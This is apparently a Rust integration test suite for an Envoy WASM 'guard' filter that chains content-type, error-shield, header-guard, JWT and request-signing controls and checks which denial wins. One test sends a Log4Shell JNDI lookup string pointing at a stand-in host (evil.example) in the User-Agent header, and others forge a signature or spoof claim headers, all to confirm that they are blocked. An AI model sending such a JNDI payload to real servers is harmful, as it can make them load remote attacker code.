//! guard in a real Envoy: one VM, several controls, first denial wins.

#[path = "support/jwt.rs"]
mod jwt;
mod signing_support;
mod support;

use serde_json::{json, Value};
use support::*;

const POLICY: &str = r#"{
  "chain": ["content_type", "error_shield"],
  "content_type": {"default": {"allow": ["application/json"], "max_body_bytes": 1024}},
  "error_shield": {"default": {"status_map": {"502": 503}}}
}"#;

#[test]
fn chain_runs_every_control_in_one_vm() {
    let e = envoy().wasm("guard", POLICY).start();
    // content_type denies first.
    e.post("/x", &[("content-type", "text/plain")], b"hi")
        .assert_problem(415, "content_type.unsupported");
    e.post("/x", &[("content-type", "application/json")], b"{")
        .assert_problem(400, "content_type.body_mismatch");
    // Allowed by content_type; error_shield rewrites the failing response.
    let r = e.post(
        "/x",
        &[
            ("content-type", "application/json"),
            ("x-echo-status", "502"),
            ("x-echo-header", "server: nginx/1.2"),
        ],
        br#"{"e": "upstream 10.1.1.1 down"}"#,
    );
    r.assert_problem(503, "error_shield.status");
    assert_eq!(r.header("server"), None);
    let ok = e.post("/x", &[("content-type", "application/json")], br#"{"a":1}"#);
    assert_eq!(ok.status, 200);
    assert_eq!(ok.echoed().body, r#"{"a":1}"#);
    assert_eq!(
        e.upstream_seen().len(),
        2,
        "only the two allowed requests reached the upstream"
    );
    assert_eq!(e.counter("guard", "denied", "content_type.unsupported"), 1);
    assert_eq!(e.counter("guard", "replaced", "error_shield.status"), 1);
}

/// #17 class 1 inside guard: an empty body of a checked type is 400 however it is framed, and
/// the denial log line carries the detail (class 7).
#[test]
fn guard_refuses_an_empty_json_body_however_it_is_framed() {
    let e = envoy().wasm("guard", POLICY).start();
    let head = "POST /x HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n";
    for framing in [
        "connection: close\r\n\r\n",
        "content-length: 0\r\nconnection: close\r\n\r\n",
        "transfer-encoding: chunked\r\nconnection: close\r\n\r\n0\r\n\r\n",
    ] {
        e.raw(format!("{head}{framing}").as_bytes())
            .assert_problem(400, "content_type.body_mismatch");
    }
    assert!(e.upstream_seen().is_empty());
    assert!(
        e.wait_for_log(
            r#""detail":"the body is empty, but application/json was declared""#,
            5
        ),
        "{}",
        e.log()
    );
}

#[test]
fn a_policy_error_names_the_control() {
    let log = envoy()
        .wasm(
            "guard",
            r#"{"chain": ["content_type"], "content_type": {"default": {"allow": []}}}"#,
        )
        .start_expect_exit();
    assert!(log.contains("portcullis guard: invalid policy: content_type.default.allow: must list at least one media type"), "{log}");
}

// The issue's chain: header_guard, jwt_auth, content_type, request_signing in one VM.

const ISS: &str = "https://idp.example";
const BODY: &[u8] = br#"{"item": "book", "qty": 2}"#;
const JSON: (&str, &str) = ("content-type", "application/json");

fn issue_policy(chain: &[&str], es: &jwt_simple::prelude::ES256KeyPair) -> Value {
    json!({
        "chain": chain,
        "header_guard": {},
        "jwt_auth": {
            "providers": [{"name": "idp", "issuer": ISS, "algorithms": ["ES256"],
                "jwks": jwt::jwks(&[jwt::jwk_es256(es, "e1")]),
                "forward": {"claims": ["sub"]}}],
            "default": {}
        },
        "content_type": {"default": {"allow": ["application/json"]}},
        // The request-signing tests' policy: `/orders` must cover content-type and the digest.
        "request_signing": serde_json::from_str::<Value>(&signing_support::verify_policy()).unwrap()
    })
}

const ISSUE_CHAIN: &[&str] = &[
    "header_guard",
    "jwt_auth",
    "content_type",
    "request_signing",
];

fn start_issue_chain(chain: &[&str], es: &jwt_simple::prelude::ES256KeyPair) -> Envoy {
    envoy()
        .filter(
            Filter::new("guard", issue_policy(chain, es))
                .vm_env(signing_support::SECRET_ENV, signing_support::SECRET),
        )
        .start()
}

fn bearer(es: &jwt_simple::prelude::ES256KeyPair) -> String {
    let now = jwt::now();
    let t = jwt::sign_es256(
        es,
        &json!({"iss": ISS, "sub": "alice", "iat": now, "exp": now + 600}),
    );
    format!("Bearer {t}")
}

/// Signature fields for `POST /orders?tenant=7` with a JSON content type and `BODY`.
fn signed_post() -> Vec<(String, String)> {
    signing_support::lib_sign(
        "POST",
        "/orders?tenant=7",
        &[JSON],
        BODY,
        signing_support::now(),
        signing_support::FULL,
    )
}

#[test]
fn issue_chain_first_denial_wins_in_chain_order() {
    let es = jwt::es256("e1");
    let auth = bearer(&es);
    let e = start_issue_chain(ISSUE_CHAIN, &es);
    // Fails header_guard (Log4Shell in User-Agent) and jwt_auth (no token): header_guard's code.
    let both_bad = [("user-agent", "${jndi:ldap://evil.example/a}")];
    let d = e.get("/orders/1", &both_bad);
    d.assert_problem(400, "header_guard.denied_pattern");
    // The chain's own denials carry header_guard's response headers, as the module's do.
    assert_eq!(d.header("x-content-type-options"), Some("nosniff"));
    // Good token, bad content type: content_type, before request_signing looks at it.
    let d = e.post(
        "/orders?tenant=7",
        &[("authorization", &auth), ("content-type", "text/plain")],
        b"hi",
    );
    d.assert_problem(415, "content_type.unsupported");
    assert_eq!(d.header("x-frame-options"), Some("DENY"));
    // Good token and type, no signature / a tampered body / a forged MAC: request_signing.
    e.post("/orders?tenant=7", &[("authorization", &auth), JSON], BODY)
        .assert_problem(401, "signature.missing");
    let signed = signed_post();
    let headers = signing_support::with(&[("authorization", &auth), JSON], &signed);
    e.post(
        "/orders?tenant=7",
        &headers,
        br#"{"item": "book", "qty": 200}"#,
    )
    .assert_problem(401, "digest.mismatch");
    let forged: Vec<(String, String)> = signed
        .iter()
        .map(|(k, v)| {
            if k == "Signature" {
                // `sig1=:<base64>:`: another first character of the MAC.
                let c = if v.as_bytes()[6] == b'A' { "B" } else { "A" };
                let mut v = v.clone();
                v.replace_range(6..7, c);
                (k.clone(), v)
            } else {
                (k.clone(), v.clone())
            }
        })
        .collect();
    let forged_headers = signing_support::with(&[("authorization", &auth), JSON], &forged);
    e.post("/orders?tenant=7", &forged_headers, BODY)
        .assert_problem(401, "signature.bad");
    assert!(
        e.upstream_seen().is_empty(),
        "no denied request reached the upstream"
    );
    assert_eq!(
        e.counter("guard", "denied", "header_guard.denied_pattern"),
        1
    );
    assert_eq!(e.counter("guard", "denied", "content_type.unsupported"), 1);
    assert_eq!(e.counter("guard", "denied", "signature.missing"), 1);
    assert_eq!(e.counter("guard", "denied", "digest.mismatch"), 1);
    assert_eq!(e.counter("guard", "denied", "signature.bad"), 1);
    assert_eq!(e.counter("guard", "denied", "jwt.missing"), 0);

    // The reverse order: the same request gets jwt_auth's code.
    let e = start_issue_chain(
        &[
            "jwt_auth",
            "header_guard",
            "content_type",
            "request_signing",
        ],
        &es,
    );
    e.get("/orders/1", &both_bad)
        .assert_problem(401, "jwt.missing");
    assert_eq!(e.counter("guard", "denied", "jwt.missing"), 1);
    assert_eq!(
        e.counter("guard", "denied", "header_guard.denied_pattern"),
        0
    );
}

#[test]
fn issue_chain_a_valid_request_reaches_the_upstream_with_the_real_claim_header() {
    let es = jwt::es256("e1");
    let auth = bearer(&es);
    let e = start_issue_chain(ISSUE_CHAIN, &es);
    let signed = signed_post();
    let headers = signing_support::with(
        &[
            ("authorization", &auth),
            JSON,
            ("x-jwt-sub", "mallory"),
            ("x_jwt_sub", "mallory"),
        ],
        &signed,
    );
    let r = e.post("/orders?tenant=7", &headers, BODY);
    assert_eq!(r.status, 200, "{}", r.text());
    let seen = e.upstream_seen();
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].body.as_bytes(), BODY);
    let subs: Vec<&str> = seen[0]
        .headers
        .iter()
        .filter(|(k, _)| k == "x-jwt-sub" || k == "x_jwt_sub")
        .map(|(_, v)| v.as_str())
        .collect();
    assert_eq!(subs, ["alice"], "{:?}", seen[0].headers);
    assert!(
        !seen[0].headers.iter().any(|(_, v)| v.contains("mallory")),
        "{:?}",
        seen[0].headers
    );
    assert_eq!(
        seen[0].header("signature"),
        Some(signed[2].1.as_str()),
        "the signature reaches the upstream as sent"
    );
    // The same signed request again: its nonce is spent.
    e.post("/orders?tenant=7", &headers, BODY)
        .assert_problem(401, "signature.replayed");
    assert_eq!(e.upstream_seen().len(), 1);
    assert_eq!(e.counter("guard", "denied", "signature.replayed"), 1);
}

#[test]
fn a_jwt_auth_policy_error_names_the_control_and_path() {
    let log = envoy()
        .wasm(
            "guard",
            r#"{"chain": ["header_guard", "jwt_auth"], "header_guard": {}, "jwt_auth": {"providers": []}}"#,
        )
        .start_expect_exit();
    assert!(
        log.contains(
            "portcullis guard: invalid policy: jwt_auth.providers: name at least one provider"
        ),
        "{log}"
    );
}

#[test]
fn payload_crypto_in_a_chain_is_refused_it_runs_only_as_its_own_module() {
    let log = envoy()
        .wasm(
            "guard",
            r#"{"chain": ["content_type", "payload_crypto"], "content_type": {"default": {"allow": ["application/json"]}}}"#,
        )
        .start_expect_exit();
    assert!(
        log.contains("portcullis guard: invalid policy: chain[1]: `payload_crypto` runs only as its own module (payload-crypto.wasm), not in a guard chain"),
        "{log}"
    );
}
